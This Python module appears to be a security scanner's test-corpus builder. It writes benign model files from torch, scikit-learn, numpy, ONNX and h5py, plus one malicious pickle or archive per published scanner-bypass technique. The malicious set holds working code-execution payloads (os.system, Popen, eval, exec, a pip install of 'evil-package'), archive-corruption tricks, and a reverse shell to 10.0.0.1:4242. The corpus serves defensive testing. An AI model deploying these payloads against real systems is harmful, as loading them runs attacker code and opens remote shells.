"""The scanner's test corpora, also used by ``benchmarks/scan_peers.py``.

``write_benign`` writes real files produced by torch, scikit-learn/joblib, numpy, safetensors, ONNX and h5py;
``write_malicious`` writes one file per published bypass technique, built from opcodes (nothing downloaded).
"""

from __future__ import annotations

import argparse
import bz2
import collections
import datetime
import decimal
import gzip
import io
import json
import pickle
import struct
import tarfile
import warnings
import zipfile
from pathlib import Path

import numpy as np
import torch

from hoplon.scan.bypasses import BYPASSES
from tests.scan import builders as b


def _gguf(path: Path) -> None:
    def s(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = s("general.architecture") + struct.pack("<I", 8) + s("llama")
    kv += s("general.alignment") + struct.pack("<I", 4) + struct.pack("<I", 32)
    tensor = s("w") + struct.pack("<I", 2) + struct.pack("<QQ", 4, 4) + struct.pack("<IQ", 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 2) + kv + tensor
    head += b"\x00" * (-len(head) % 32)
    path.write_bytes(head + np.zeros(16, dtype=np.float32).tobytes())


def _onnx(path: Path) -> None:
    import onnx
    from onnx import TensorProto, helper

    w = helper.make_tensor("w", TensorProto.FLOAT, [3, 2], [0.0] * 6)
    node = helper.make_node("MatMul", ["x", "w"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
        [w],
    )
    onnx.save(helper.make_model(graph, producer_name="hoplon-tests"), str(path))


def write_benign(root: Path) -> Path:
    """Real model files that must come out clean."""
    root.mkdir(parents=True, exist_ok=True)
    import h5py  # type: ignore[import-untyped]
    import joblib
    from safetensors.numpy import save_file as save_np
    from safetensors.torch import save_file
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    torch.manual_seed(0)
    mlp = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    cnn = torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.Flatten(), torch.nn.Dropout(0.1)
    )
    torch.save(mlp.state_dict(), root / "mlp_state.pt")
    torch.save(mlp, root / "mlp_full.pth")
    torch.save(cnn, root / "cnn_full.pt")
    torch.jit.script(mlp).save(str(root / "scripted.pt"))
    torch.jit.trace(mlp, torch.zeros(1, 4)).save(str(root / "traced.pt"))
    torch.save(mlp.state_dict(), root / "legacy_state.bin", _use_new_zipfile_serialization=False)
    torch.save(mlp, root / "legacy_full.pt", _use_new_zipfile_serialization=False)
    opt = torch.optim.SGD(mlp.parameters(), lr=0.1, momentum=0.9)
    mlp(torch.zeros(2, 4)).sum().backward()
    opt.step()
    torch.save(
        {"model": mlp.state_dict(), "optimizer": opt.state_dict(), "epoch": 3, "args": argparse.Namespace(lr=0.1)},
        root / "checkpoint.ckpt",
    )
    torch.save({"bf16": torch.ones(3, dtype=torch.bfloat16), "i64": torch.arange(5)}, root / "dtypes.pt")
    with warnings.catch_warnings():  # quantized tensors are deprecated in torch, and still in old checkpoints
        warnings.simplefilter("ignore", UserWarning)
        quantized = torch.quantize_per_tensor(torch.rand(3), 0.1, 0, torch.quint8)
    sched = torch.optim.lr_scheduler.StepLR(torch.optim.SGD([torch.nn.Parameter(torch.zeros(1))], lr=0.1), 1)
    torch.save(
        {
            "scheduler": sched.state_dict(),
            "dtype": torch.float16,
            "device": torch.device("cpu"),
            "size": torch.Size([2, 3]),
            "quantized": quantized,
            "sparse": torch.zeros(3, 3).to_sparse(),
            "rng": torch.get_rng_state(),
        },
        root / "misc.pt",
    )
    seq = torch.nn.Sequential(torch.nn.Embedding(5, 3), torch.nn.LayerNorm(3), torch.nn.GRU(3, 3))
    torch.save(seq, root / "recurrent_full.pt")
    torch.save([torch.zeros(2), {"k": (1, 2.5, "s", None, True)}], root / "nested.pt")
    (root / "tensor_pickle.pkl").write_bytes(pickle.dumps(torch.arange(4.0)))  # storage as nested torch.save
    save_file({"w": torch.randn(4, 4), "b": torch.zeros(4)}, str(root / "model.safetensors"))
    save_np({"a": np.arange(6, dtype=np.int32).reshape(2, 3)}, str(root / "np.safetensors"))

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] > 0).astype(int)
    forest = RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)
    joblib.dump(forest, root / "forest.joblib")
    joblib.dump(forest, root / "forest_z.joblib", compress=3)
    joblib.dump(forest, root / "forest.joblib.gz", compress=("gzip", 3))
    joblib.dump(forest, root / "forest.joblib.bz2", compress=("bz2", 3))
    joblib.dump(forest, root / "forest.joblib.xz", compress=("xz", 3))
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    for proto in (2, 3, 4, 5):
        (root / f"pipeline_p{proto}.pkl").write_bytes(pickle.dumps(pipe, protocol=proto))
    (root / "tree.pickle").write_bytes(pickle.dumps(DecisionTreeClassifier(random_state=0).fit(x, y)))
    from sklearn.ensemble import GradientBoostingClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.preprocessing import OneHotEncoder

    joblib.dump(GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y), root / "boosting.joblib")
    joblib.dump(KNeighborsClassifier(n_neighbors=3).fit(x, y), root / "knn.joblib")
    joblib.dump(OneHotEncoder().fit(np.array([["a"], ["b"]] * 5, dtype=object)), root / "onehot.joblib")
    joblib.dump(TfidfVectorizer().fit(["hello model", "scan files"]), root / "tfidf.joblib")
    stdlib = {
        "when": datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
        "od": collections.OrderedDict(a=1),
        "dd": collections.defaultdict(list),
        "misc": (complex(1, 2), frozenset([1]), bytearray(b"x"), slice(1, 2), decimal.Decimal("1.5")),
        "rng": np.random.default_rng(0),
        "legacy_rng": np.random.RandomState(0),
    }
    (root / "stdlib.pkl").write_bytes(pickle.dumps(stdlib, protocol=4))
    (root / "plain_p0.pkl").write_bytes(pickle.dumps({"a": [1, 2.0, "x", (3, None)], "b": {1, 2}}, protocol=0))

    np.save(root / "float.npy", rng.normal(size=(3, 4)))
    np.save(root / "bool.npy", np.array([True, False]))
    np.save(root / "struct.npy", np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))]))
    np.savez(root / "arrays.npz", a=np.arange(3), b=np.eye(2))
    np.savez_compressed(root / "arrays_c.npz", a=np.arange(100))
    (root / "array.pkl").write_bytes(pickle.dumps(rng.normal(size=(2, 2)), protocol=2))

    _onnx(root / "matmul.onnx")
    with h5py.File(root / "weights.h5", "w") as h5:
        h5.create_dataset("dense/kernel", data=rng.normal(size=(4, 2)))
        h5.attrs["note"] = "h5py only"
    _gguf(root / "tiny.gguf")
    (root / "config.json").write_text(json.dumps({"model_type": "mlp", "architectures": ["MLP"]}))
    (root / "README.md").write_text("---\nlicense: apache-2.0\ndatasets:\n- digits\n---\n# tiny\n")
    (root / "vocab.txt").write_text("[PAD]\nhello\nworld\n")
    return root


def _zip_with(member: str, data: bytes, *, base: bytes | None = None) -> bytes:
    buf = io.BytesIO(base or b"")
    with zipfile.ZipFile(buf, "a" if base else "w") as z:
        z.writestr(member, data)
    return buf.getvalue()


def _npy_object(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + payload


def malicious_files() -> dict[str, bytes]:
    """``{file name: bytes}``: one file per published technique, plus one per callable a bypass names."""
    system = b.call("os", "system", "id")
    shell = "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));pty.spawn('/bin/sh')"
    memo = (
        b.PROTO4 + b.ustr("os") + b.put(0) + b"0" + b.ustr("system") + b.put(1) + b"0"
        + b.get(0) + b.get(1) + b"\x93" + b.ustr("id") + b.TUPLE1 + b.REDUCE + b.STOP
    )  # fmt: skip
    getattr_chain = (
        b.PROTO2 + b.glob("builtins", "getattr") + b.MARK + b.glob("builtins", "__import__")
        + b.MARK + b.ustr("os") + b.TUPLE + b.REDUCE + b.ustr("system") + b.TUPLE + b.REDUCE
        + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP
    )  # fmt: skip
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        for name, data in (("sys_info_pk", b.benign()), ("pickle", system)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner/model.pt", b.torch_zip(system))
    files: dict[str, bytes] = {
        "cve-2025-1716-pip-main.pkl": b.call("pip", "main", "install", "evil-package"),
        "cve-2025-1889-extension-in-zip.pt": _zip_with("archive/extra.custom", system, base=b.torch_zip(b.benign())),
        "cve-2025-1944-name-mismatch.pt": b.patch_local_name(
            b.torch_zip(system), "archive/data.pkl", "archive/data.pk_"
        ),
        "cve-2025-1945-flag-bits.pt": b.set_flag_bits(b.torch_zip(system), 0x1),
        "cve-2025-10156-bad-crc.pt": b.break_crc(b.torch_zip(system), "archive/data.pkl"),
        "cve-2025-10155-pytorch_model.bin": b.call("os", "system", "id", proto=4),
        "cve-2025-10157-asyncio-submodule.pkl": b.call("asyncio.subprocess", "create_subprocess_exec", "sh"),
        "stack-global-from-memo.pkl": memo,
        "data-after-stop.pkl": b.benign() + system,
        "nullifai-broken-stream.pt": b.torch_zip(system[:-1] + b"\xff\xfe garbage"),
        "nullifai-7z.bin": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64,
        "nullifai-7z-torch.7z": _seven_zip("pytorch_model/data.pkl", system),
        "ext-opcode.pkl": b.PROTO2 + b"\x82\x07" + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP,
        "dotted-through-torch.pkl": b.call("torch", "serialization.os.system", "id", proto=4),
        "py2-builtin-eval.pkl": b"c__builtin__\neval\n(S'1+1'\ntR.",
        "jfrog-exec-reverse-shell.bin": b.torch_zip(b.call("builtins", "exec", shell)),
        "nested-pickle-loads.pkl": b.PROTO2
        + b.glob("_pickle", "loads")
        + b.MARK
        + b.bbytes(system)
        + b.TUPLE
        + b.REDUCE
        + b.STOP,
        "getattr-chain.pkl": getattr_chain,
        "numpy-object-array.npy": _npy_object(system),
        "legacy-torch-tar.tar": tar.getvalue(),
        "nested-archive.zip": nested.getvalue(),
        "gzip-wrapped.pt.gz": gzip.compress(b.torch_zip(system)),
        "bz2-wrapped.pkl.bz2": bz2.compress(system),
        "protocol0-inst.pkl": b"(S'id'\nios\nsystem\n.",
        "newobj-popen.pkl": b.PROTO2 + b.glob("subprocess", "Popen") + b.ustr("id") + b.TUPLE1 + b"\x81.",
        "no-extension-payload": system,
        "torch-load-from-bytes.pkl": b.PROTO2
        + b.glob("torch.storage", "_load_from_bytes")
        + b.MARK
        + b.bbytes(b.torch_zip(system))
        + b.TUPLE
        + b.REDUCE
        + b.STOP,
    }
    for bypass in BYPASSES:
        for qualname in bypass.callables:
            module, _, name = qualname.partition(".")
            files[f"callable-{bypass.key}-{qualname}.pkl"] = b.call(module, name, "x", proto=4)
    return files


def write_malicious(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, data in malicious_files().items():
        (root / name).write_bytes(data)
    return root


def _seven_zip(member: str, data: bytes) -> bytes:
    """A real 7z archive holding one member (the nullifAI wrapper)."""
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.writestr(data, member)
    return buf.getvalue()
